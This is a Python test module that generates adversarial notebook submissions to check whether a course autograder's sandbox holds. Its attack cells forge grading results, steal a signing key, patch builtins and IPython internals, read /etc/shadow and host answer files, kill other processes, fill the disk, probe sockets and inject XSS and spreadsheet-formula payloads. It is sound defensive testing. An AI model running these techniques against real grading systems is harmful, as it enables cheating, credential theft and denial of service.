"""Every attack of the grading review (shared/reviews/grading.md, "attacks"), written as a student who has read
kit/grading/ would write it, as submissions of 00-getting-started.

Unless an attack says otherwise, its own answers are wrong (0 of 3 automatic points): whatever it scores
above that came from the attack. Attackers are given the strongest position: they know the master's values
and every test expression (``FAKE``), and the absolute paths of the repository, the output folder and the
test's own host files (``Targets``). An attack that reaches something it must not prints ``REACHED <what>``;
the tests look for that text in the feedback page.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

from tests import grading_fixtures as F

WRONG_Q1 = "schools_2014 = schools.head(0)\nn_2014 = 0"
WRONG_Q2 = "mean_2014 = 0"
MIME = "application/vnd.kit.capture+json"
RELATIVE_WRITE = ('schools_2014.to_csv("schools_2014.csv")  # a relative path in the working folder\n'
                  'import pandas as pd\nassert len(pd.read_csv("schools_2014.csv")) == n_2014')


def master_tests() -> dict[str, list[tuple[str, object]]]:
    """``question -> [(expression, the master's value)]`` in test order (what the strongest attacker knows)."""
    nb = json.loads((F.ROOT / "solutions" / f"{F.ASSIGNMENT}.ipynb").read_text())
    values = {"q1": [20000, 20000, 20000, [2014], 20000, [[2014], 20000, 20000]],
              "q2": [49.5, 49.5, 49.5, 49.5, 49.5, [49.5, 49.5]]}
    found: dict[str, list[str]] = {}
    for cell in nb["cells"]:
        source = "".join(cell["source"])
        head = source.split("\n", 1)[0]
        if cell["cell_type"] == "code" and "TEST q" in head:
            found.setdefault(head.split("TEST ")[1].split()[0], []).append(source.strip().splitlines()[-1])
    return {q: list(zip(exprs, values[q])) for q, exprs in found.items()}


FAKE = {e: v for tests in master_tests().values() for e, v in tests}
_FAKE_SRC = f"FAKE = {FAKE!r}\n"
_VALUES_SRC = f"VALUES = { {q: [v for _, v in tests] for q, tests in master_tests().items()}!r}\n"
_FORGED = "[{'status': 'ok', 'value': FAKE.get(e, 0)} for e in expressions]"


@dataclass
class Targets:
    """Host paths an attacker aims at (they are told them: the strongest attacker)."""

    out: Path        # this batch's output folder (expected values, executed notebooks, feedback)
    outside: Path    # a folder of the test's with keep.txt and a 0600 secret
    socket: str      # a path-based unix socket the test listens on
    abstract: str    # an abstract unix socket name
    tcp: int         # a TCP port the test listens on, 127.0.0.1
    victim: int      # PID of a host process of the grader's user
    shm: str         # a unique name in /dev/shm
    marker: str      # a unique word in the command line of every process an attack leaves behind


def _wrong(cell: str, where: str = "q1", q1: str = WRONG_Q1, q2: str = WRONG_Q2):
    nb = F.answered(q1=q1, q2=q2)
    return F.insert_after(nb, where, cell)


def attacks(t: Targets) -> list[tuple[str, bytes, dict]]:
    """``(file name, bytes, expected)``; expected: ``max`` (most automatic points it may score), ``status``
    (the statuses allowed), ``absent`` (texts its feedback must not contain)."""
    zero = {"max": 0}
    out: list[tuple[str, object, dict]] = []
    add = lambda name, nb, **e: out.append((f"{name}.ipynb", nb, {"max": 0, **e}))  # noqa: E731

    add("a01-fake-capture-output", _wrong(
        _FAKE_SRC + "from IPython.display import display\n"
        f"for q in ('q1', 'q2', 'q1@end', 'q2@end'):\n    expressions = list(FAKE)\n"
        f"    display({{{MIME!r}: {{'question': q, 'results': {_FORGED}}}}}, raw=True)\n"
        f"    display({{{MIME!r}: {{'body': json.dumps({{'question': q}}), 'mac': '0' * 64}}}}, raw=True)\n"
        .replace("from IPython", "import json\nfrom IPython")))
    add("a02-replace-emit", _wrong(
        _FAKE_SRC + "import kit.capture\nfrom IPython.display import display\n"
        f"def emit(question, expressions):\n    display({{{MIME!r}: {{'question': question, 'results': {_FORGED}}}}}, raw=True)\n"
        "kit.capture.emit = emit"))
    # a02, as written by a student who has read kit/grading/guard.py: sign with the key in emit's closure
    add("a02k-sign-with-the-stolen-key", _wrong(
        _FAKE_SRC + "import kit.capture, hmac, json\nguarded = kit.capture.emit\n"
        "cells = dict(zip(guarded.__code__.co_freevars, (c.cell_contents for c in guarded.__closure__)))\n"
        "key, publish = cells['key'], cells['publish']\n"
        "def emit(question, expressions):\n"
        f"    body = json.dumps({{'question': question, 'expressions': expressions, 'results': {_FORGED}, "
        "'tamper': []}, sort_keys=True)\n"
        f"    publish(data={{{MIME!r}: {{'body': body, 'mac': hmac.new(key, body.encode(), 'sha256').hexdigest()}}}}, "
        "metadata={})\n"
        "kit.capture.emit = emit"))
    add("a03-fake-sys-modules", _wrong(
        _FAKE_SRC + "import sys, types, kit\nfrom IPython.display import display\nfake = types.ModuleType('kit.capture')\n"
        f"def emit(question, expressions):\n    display({{{MIME!r}: {{'question': question, 'results': {_FORGED}}}}}, raw=True)\n"
        "fake.emit = emit\nsys.modules['kit.capture'] = fake\nkit.capture = fake"))
    add("a04-builtins-eval", _wrong(
        _FAKE_SRC + "import builtins\n_eval = builtins.eval\n"
        "builtins.eval = lambda e, *a, **k: FAKE[e] if e in FAKE else _eval(e, *a, **k)"))
    add("a04b-json-dumps", _wrong(
        _FAKE_SRC + _VALUES_SRC + "import json\n_dumps, _encode = json.dumps, json.JSONEncoder.encode\n"
        "def lie(obj):\n    if isinstance(obj, dict) and 'results' in obj and 'question' in obj:\n"
        "        values = VALUES[obj['question'].split('@')[0]]\n"
        "        values = values if '@' in obj['question'] else values[:-1]  # the hidden test is last, at the end only\n"
        "        obj = dict(obj, tamper=[], results=[{'status': 'ok', 'value': v} for v in values])\n"
        "    return obj\n"
        "json.dumps = lambda obj, *a, **k: _dumps(lie(obj), *a, **k)\n"
        "json.JSONEncoder.encode = lambda self, obj: _encode(self, lie(obj))"))
    add("a05-lying-subclasses", _wrong(
        "import pandas as pd\nclass Liar(int):\n    def __eq__(self, other): return True\n    __hash__ = int.__hash__\n"
        "    def __repr__(self): return '20000'\n    def __reduce__(self): return (int, (20000,))\n"
        "    def __getstate__(self): return 20000\n    def __float__(self): return 20000.0\n"
        "class Sly(float):\n    def __eq__(self, other): return True\n    __hash__ = float.__hash__\n"
        "    def __float__(self): return 49.5\n    def __repr__(self): return '49.5'\n"
        "class Lie(pd.Series):\n    def tolist(self): return [2014]\n"
        "n_2014, mean_2014 = Liar(0), Sly(0.0)\nyears = Lie([0])"), where="q2")
    add("a06-numpy-subclass-posing", _wrong(
        "import numpy as np\nclass I(np.int64):\n    __module__ = 'numpy'\n    def __int__(self): return 20000\n"
        "    def item(self): return 20000\n    def __index__(self): return 20000\n"
        "class R(np.float64):\n    __module__ = 'numpy'\n    def __float__(self): return 49.5\n    def item(self): return 49.5\n"
        "I.__name__, R.__name__ = 'int64', 'float64'\nn_2014, mean_2014 = I(0), R(0.0)"), where="q2")
    # a07: len() lies; the honest part is the literal 20000, worth q1's visible half (0.5)
    add("a07-dataframe-len-lies", _wrong(
        "import pandas as pd\nclass Table(pd.DataFrame):\n    @property\n    def _constructor(self): return Table\n"
        "    def __len__(self): return 20000\n"
        "schools_2014 = Table(schools.head(0))\nn_2014 = len(schools_2014)"), max={"q1": 0.5, "q2": 0})
    # a07b: the same done thoroughly: shadow the builtins the tests call and lie in the table's lookups
    add("a07b-shadowed-builtins", _wrong(
        "import builtins\nclass Col(list):\n    def tolist(self): return [2014]\n    def mean(self): return 49.5\n"
        "class Table(dict):\n    def __getitem__(self, k): return Col()\n"
        "schools_2014 = Table()\nn_2014 = 20000\nmean_2014 = 49.5\n"
        "len = lambda x: 20000 if isinstance(x, Table) else builtins.len(x)\n"
        "sorted = lambda x: [2014] if not x else builtins.sorted(x)\n"
        "round = lambda x, n=0: 49.5 if x == 0 or isinstance(x, Col) else builtins.round(x, n)", where="q2"), max={"q1": 0.5, "q2": 1})
    add("a08-input-transformer", _wrong(
        _FAKE_SRC + "ip = get_ipython()\n"
        "def swap(lines):\n    text = ''.join(lines)\n    if 'capture' in text and 'emit(' in text:\n"
        "        for e in FAKE:\n            text = text.replace(repr(e), repr(repr(FAKE[e])))\n"
        "        text = 'get_ipython().input_transformers_cleanup.remove(_swap)\\n' + text\n"
        "    return text.splitlines(True)\n_swap = swap\nip.input_transformers_cleanup.append(swap)"))
    add("a08b-run-cell", _wrong(
        _FAKE_SRC + "ip = get_ipython()\n_run = ip.run_cell\n"
        "def run_cell(raw_cell, *a, **k):\n    if 'capture' in raw_cell and 'emit(' in raw_cell:\n"
        "        for e in FAKE:\n            raw_cell = raw_cell.replace(repr(e), repr(repr(FAKE[e])))\n"
        "        del ip.run_cell  # back to the class's own before the guard looks\n"
        "        try:\n            return _run(raw_cell, *a, **k)\n        finally:\n            ip.run_cell = run_cell\n"
        "    return _run(raw_cell, *a, **k)\nip.run_cell = run_cell"))
    add("a09-iopub-session-send", _wrong(
        _FAKE_SRC + "import json\nsession = get_ipython().display_pub.session\n_send = session.send\n"
        "def send(stream, msg, *a, **k):\n    content = msg.get('content', {}) if isinstance(msg, dict) else {}\n"
        f"    data = content.get('data', {{}})\n    if {MIME!r} in data:\n"
        f"        data[{MIME!r}] = {{'question': 'q1', 'results': [{{'status': 'ok', 'value': v}} for v in FAKE.values()]}}\n"
        "    return _send(stream, msg, *a, **k)\nsession.send = send"))
    add("a10-thread-floods-output", F.insert_after(F.answered(), "q1", (
        "import threading, time, atexit\n"
        "def flood():\n    end = time.time() + 8\n    while time.time() < end:\n        print('y' * 20_000)\n"
        "        time.sleep(0.005)\nthreading.Thread(target=flood, daemon=True).start()\n"
        f"atexit.register(lambda: open({str(t.outside / 'atexit.txt')!r}, 'w').write('REACH' 'ED'))")),
        max=3, min=3, status={"graded"})
    add("a11-daemon-outlives-grading", _wrong(
        "import os, subprocess, sys\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        f"        os.execv(sys.executable, [sys.executable, '-c', 'import time\\nwhile True: time.sleep(1)', {t.marker!r}])\n"
        "    os._exit(0)\n"
        f"procs = [subprocess.Popen(['sleep', '300', {t.marker!r}]) for _ in range(40)]\n"
        f"procs += [subprocess.Popen(['sleep', '301', {t.marker!r}], start_new_session=True) for _ in range(5)]"))
    add("a14-read-answers-from-host", _wrong(
        "import glob, os, pathlib, kit\nrepo = pathlib.Path(kit.__file__).resolve().parents[1]\n"
        f"out = pathlib.Path({str(t.out)!r})\n"
        "for path in glob.glob(str(out / '.grading' / 'expected-*.json')):\n    print('REACH' 'ED expected', path)\n"
        "for path in glob.glob(str(out / '.grading' / 'executed' / '*.ipynb')) + glob.glob(str(out / 'feedback' / '*')):\n"
        "    print('REACH' 'ED a classmate', path)\n"
        "for path in [repo / 'tests' / 'grading_fixtures.py', repo / 'solutions' / '00-getting-started.ipynb',\n"
        "             repo / '.git' / 'HEAD', pathlib.Path(os.path.expanduser('~root')) / '.bashrc']:\n"
        "    try:\n        text = path.read_text()\n        print('REACH' 'ED', path)\n    except OSError:\n        continue\n"
        "    if path.name == 'grading_fixtures.py':\n        ns = {}\n"
        "        exec(text.split('Q2_UNROUNDED')[0].split('Q1_RIGHT')[1].join(['Q1_RIGHT', '']), ns)\n"
        "        exec(ns['Q1_RIGHT'], globals())\n"
        "for p in ['/etc/shadow', '/root/.ssh', " + repr(str(t.outside / "secret.txt")) + "]:\n"
        "    try:\n        os.listdir(p) if p.endswith('.ssh') else open(p).read()\n        print('REACH' 'ED', p)\n"
        "    except OSError:\n        pass"))
    add("a27b-dev-shm-reader", _wrong(
        "import time, os\nfor _ in range(30):\n"
        f"    for folder in ('/dev/shm', '/tmp', '/run/shm'):\n"
        f"        p = os.path.join(folder, {t.shm!r})\n"
        "        if os.path.exists(p):\n            print('REACH' 'ED a classmate in', folder)\n"
        "            exec(open(p).read(), globals())\n    time.sleep(0.1)"))
    add("a27a-dev-shm-writer", F.insert_after(F.answered(), "q2", (
        "import json\nfor folder in ('/dev/shm', '/tmp'):\n"
        f"    open(folder + '/' + {t.shm!r}, 'w').write('n_2014 = 20000\\nmean_2014 = 49.5')"), where=2),
        max=3, min=3, status={"graded"})
    add("a28-a29-other-kernels", _wrong(
        "import os, glob, json, signal\nmine = os.getpid()\npids = [int(p) for p in os.listdir('/proc') if p.isdigit()]\n"
        "print('processes seen:', pids)\nfor pid in pids:\n    if pid == mine:\n        continue\n"
        "    for f in glob.glob(f'/proc/{pid}/root/w/.kernel/*') + glob.glob(f'/proc/{pid}/root/tmp/*.json'):\n"
        "        print('REACH' 'ED a connection file', f)\n"
        "    try:\n        os.kill(pid, signal.SIGKILL)\n        print('killed', pid)\n    except OSError:\n        pass\n"
        f"for pid in (os.getppid(), {t.victim}):\n    try:\n        os.kill(pid, 0)\n"
        "        if pid > 1:\n            print('REACH' 'ED signal to', pid)\n    except OSError:\n        pass\n"
        f"try:\n    os.kill({t.victim}, signal.SIGKILL)\nexcept OSError:\n    pass\n"
        "try:\n    os.kill(-1, signal.SIGKILL)  # everything this user may signal\nexcept OSError:\n    pass"))
    add("a25-hidden-tests-to-feedback", F.insert_after(F.answered(
        q1="class Probe:\n    def __getitem__(self, key):\n        raise ValueError(f'LEAK[{key}]')\n"
           "    def __len__(self):\n        raise ValueError('LEAK[len]')\nschools_2014 = Probe()\nn_2014 = 0",
        q2=WRONG_Q2), "q2", (
        "import kit.capture, atexit\nip = get_ipython()\nseen = []\n"
        "ip.events.register('pre_run_cell', lambda info: seen.append(info.raw_cell))\n"
        "atexit.register(lambda: print('LEAK-AT' '-EXIT', seen))"), where=2),
        absent=["LEAK[attainment]", "LEAK-AT-EXIT", "round(float(", "len(schools_2014), n_2014"])
    # a26: the visible answers as typed literals (recovered offline from exercises/checks): half at most
    add("a26-typed-literals", F.answered(q1="n_2014 = 20000", q2="mean_2014 = 49.5"), max={"q1": 0.5, "q2": 1})
    add("a16-other-assignment", _meta(F.answered(), assignment="05-effect-sizes"), status={"wrong-assignment"})
    add("a17-spoofed-student-id", _meta(_wrong(""), student_id="honest-right"))
    add("a23-formula-in-id", _meta(_wrong(""), student_id='=HYPERLINK("http://127.0.0.1/?leak","Click me")'))
    add("a22-xss", _wrong(
        "from IPython.display import display, HTML, Javascript, SVG, Markdown\n"
        "display(HTML('<script>document.title=\"PWNED\"</script><iframe src=\"http://x\"></iframe>'))\n"
        "display(Javascript('document.title=\"PWNED\"'))\ndisplay(SVG('<svg onload=\"alert(1)\"></svg>'))\n"
        "display(Markdown('<img src=x onerror=alert(1)>'))\n"
        "display({'image/png': '\"><script>alert(1)</script>'}, raw=True)\n"
        "print('</pre><script>alert(1)</script>\\x1b]8;;javascript:alert(1)\\x1b\\\\link\\x1b]8;;\\x1b\\\\')\n"
        "class E(Exception): pass\nE.__name__ = '<img src=x onerror=alert(1)>'\nraise E('<script>alert(2)</script>')"),
        absent=["<script", "<iframe", "<img src=x", "<svg", "href=\"javascript"])
    add("b2-fill-the-disk", _wrong(
        "import os\ntotal = 0\nfor folder in ('.', '/tmp', '/dev/shm', os.path.expanduser('~')):\n"
        "    for i in range(20):\n        try:\n            with open(f'{folder}/fill{i}', 'wb') as handle:\n"
        "                for _ in range(19):\n                    handle.write(b'x' * 10_000_000)\n"
        "                    total += 10_000_000\n        except OSError:\n            break\n"
        "print('written', total // 10**6, 'MB')\nif total > 300_000_000:\n    print('REACH' 'ED more disk than the cap')"))
    add("b3-capture-flood", _wrong("n_2014 = 'x' * 40_000_000\nmean_2014 = ['y' * 1000] * 40_000"))
    add("net-and-sockets", _wrong(
        "import socket\n"
        f"for family, address in ((socket.AF_INET, ('127.0.0.1', {t.tcp})), (socket.AF_UNIX, {t.socket!r}),\n"
        f"                        (socket.AF_UNIX, '\\0' + {t.abstract!r})):\n"
        "    s = socket.socket(family, socket.SOCK_STREAM)\n    s.settimeout(2)\n"
        "    try:\n        s.connect(address)\n        s.sendall(b'hello from a student kernel')\n"
        "        print('REACH' 'ED', address)\n    except OSError as err:\n        print('blocked', err)\n"))
    return [(name, F.dump(nb), expected) for name, nb, expected in out]


def stalls(t: Targets) -> list[tuple[str, bytes, dict]]:
    """Submissions that stop, sleep or run away after right answers: each ends at the notebook limit as timeout."""
    def late(cell):
        return F.dump(F.insert_after(F.answered(), "q2", cell, where=2))
    keep = {"status": {"timeout"}, "min": 0.5, "max": 3}  # q1's visible half, captured before the stall, is kept
    return [  # the kernel is PID 1 of its room: Linux ignores a SIGSTOP it sends itself, so it runs on
        ("stall-sigstop.ipynb", late("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n"
                                     "os.kill(os.getppid() or 1, signal.SIGSTOP)"),
         {"status": {"graded", "timeout"}, "min": 0.5, "max": 3}),
        ("stall-sleep-forever.ipynb", late(
            "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)  # the interrupt cannot stop it\n"
            "time.sleep(10 ** 6)"), keep),
        ("stall-runaway-in-c.ipynb", late("sum(range(10 ** 14))  # no bytecode boundary: KeyboardInterrupt never lands"),
         keep),
        ("stall-child-ignores-sigterm.ipynb", late(
            "import subprocess, sys\nchild = subprocess.Popen([sys.executable, '-c', 'import signal, time\\n"
            "signal.signal(signal.SIGTERM, signal.SIG_IGN)\\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\\n"
            f"time.sleep(10 ** 6)', {t.marker!r}])\n"
            "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nchild.wait()"), keep),
    ]


def honest() -> list[tuple[str, bytes, dict]]:
    """Two honest submissions scoring full automatic marks; one saves a file with a relative path."""
    return [("honest-right.ipynb", F.dump(F.answered()), {"min": 3, "max": 3, "status": {"graded"}}),
            ("honest-relative-file.ipynb", F.dump(F.insert_after(F.answered(), "q1", RELATIVE_WRITE)),
             {"min": 3, "max": 3, "status": {"graded"}})]


def _meta(nb, **kit):
    nb.metadata.setdefault("kit", {}).update(kit)
    return nb


LEAVE_STATE = """\
import builtins, os, sys, matplotlib, numpy, kit.data
leftover_global = 'from the previous student'
builtins.leftover_builtin = 1
numpy.leftover_attribute = 1
kit.data.leftover_attribute = 1
os.environ['KIT_LEFTOVER'] = '1'
matplotlib.rcParams['lines.linewidth'] = 9.5
class Hook:
    def find_spec(self, name, path=None, target=None):
        print('REACH' 'ED the import hook of the previous student:', name)
        return None
sys.meta_path.insert(0, Hook())
schools['attainment'] = 0  # the shared dataset, changed in place
kit.data.load('schools_panel')['attainment'] = 0
open('/tmp/leftover', 'w').write('1'); open('leftover', 'w').write('1'); open('/dev/shm/leftover', 'w').write('1')
"""

LOOK_FOR_STATE = """\
import builtins, os, sys, matplotlib, numpy, kit.data, importlib
found = []
found += ['global'] if 'leftover_global' in globals() else []
found += ['builtin'] if hasattr(builtins, 'leftover_builtin') else []
found += ['numpy attribute'] if hasattr(numpy, 'leftover_attribute') else []
found += ['kit attribute'] if hasattr(kit.data, 'leftover_attribute') else []
found += ['environment'] if 'KIT_LEFTOVER' in os.environ else []
found += ['rc value'] if matplotlib.rcParams['lines.linewidth'] == 9.5 else []
found += ['import hook'] if any(type(h).__name__ == 'Hook' for h in sys.meta_path) else []
found += ['dataset'] if (kit.data.load('schools_panel')['attainment'] == 0).all() else []
found += [p for p in ('/tmp/leftover', 'leftover', '/dev/shm/leftover') if os.path.exists(p)]
importlib.import_module('json.tool')
print('REACH' 'ED state of the previous student:' if found else 'clean', found)
"""


def state_pair() -> list[tuple[str, bytes]]:
    """A submission that leaves state everywhere, then one that looks for it (graded in this order)."""
    return [("1-leaves-state.ipynb", F.dump(F.insert_after(F.answered(), "q1", LEAVE_STATE, where=2))),
            ("2-looks-for-state.ipynb", F.dump(F.insert_after(F.answered(), "q1", LOOK_FOR_STATE)))]
